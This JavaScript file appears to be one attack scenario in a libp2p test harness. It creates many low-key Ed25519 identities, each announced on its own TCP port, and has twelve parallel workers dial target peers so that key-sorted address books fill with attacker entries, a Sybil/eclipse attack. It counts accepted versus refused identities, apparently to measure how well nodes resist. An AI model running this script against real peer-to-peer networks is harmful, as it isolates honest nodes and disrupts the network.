// C3: many identities with low keys, one after the other, each with an address, to own the address book.

import { generateKeyPairFromSeed } from '@libp2p/crypto/keys'
import { count, delay, dial, isOver, peer, perform, random, ready, task } from './peer.mjs'

/** Of three identities the one with the lowest key: books that sort by key prefer it. */
async function low () {
  const made = await Promise.all([0, 1, 2].map(async () => {
    const seed = random(32).toString('hex')
    const key = await generateKeyPairFromSeed('Ed25519', Buffer.from(seed, 'hex'))
    return { seed, raw: Buffer.from(key.publicKey.raw).toString('hex') }
  }))
  return made.sort((one, other) => one.raw < other.raw ? -1 : 1)[0].seed
}

async function one (place) {
  const address = `/ip4/${task.from}/tcp/${1024 + place}`
  const node = await peer({ seed: await low(), announce: [address] })
  try {
    const victim = task.victims[place % task.victims.length]
    await dial(node, victim)
    // The victim asks for the identity by itself.
    await delay(60)
    count('identities')
  } catch { count('refused') }
  await Promise.race([node.stop(), delay(300)]).catch(() => {})
}

await perform(async () => {
  ready()
  let next = 0
  const line = async () => { while (!isOver() && next < task.identities) await one(next++) }
  await Promise.all(Array.from({ length: 12 }, line))
})
